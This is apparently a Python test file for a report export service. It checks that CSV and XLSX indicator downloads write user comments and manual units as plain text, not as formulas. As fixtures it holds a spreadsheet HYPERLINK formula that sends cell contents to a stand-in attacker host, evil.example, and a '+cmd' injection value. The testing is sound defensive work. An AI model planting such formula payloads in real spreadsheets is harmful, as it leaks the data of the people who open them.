"""Indicator downloads: comments and manual units are written as text, never as formulas."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

from openpyxl import load_workbook

from app.services import disclosure
from app.services.reports import indicators
from app.services.reports.periods import HalfYear

H1 = HalfYear(2026, 1)
COMMENT = '=HYPERLINK("https://evil.example/?"&A1;"Lue")'


def _lines() -> list[list[object]]:
    row = indicators.Row("M1", "A", "Oma", "manual", manual_unit="+cmd")
    row.cells[H1.key] = disclosure.Cell(Decimal("-2.5"), 10)
    report = indicators.Report(periods=[H1], rows=[row], comments={("A", H1.key): COMMENT})
    return indicators.table(report, str)


def test_indicator_csv_neutralises_comment_and_unit() -> None:
    rows = list(csv.reader(io.StringIO(indicators.to_csv(_lines())), delimiter=";"))
    assert ["A", "M1", "Oma", "'+cmd", "-2.5", ""] in rows  # no target for a manual row
    assert ["A", "comment", "", "", "'" + COMMENT, ""] in rows


def test_indicator_xlsx_writes_comment_as_text() -> None:
    data = indicators.to_xlsx(_lines())
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = {c.value: c for row in sheet.iter_rows() for c in row if c.value is not None}
    assert cells[COMMENT].data_type == "s" and cells["+cmd"].data_type == "s"
    assert cells[-2.5].data_type == "n"
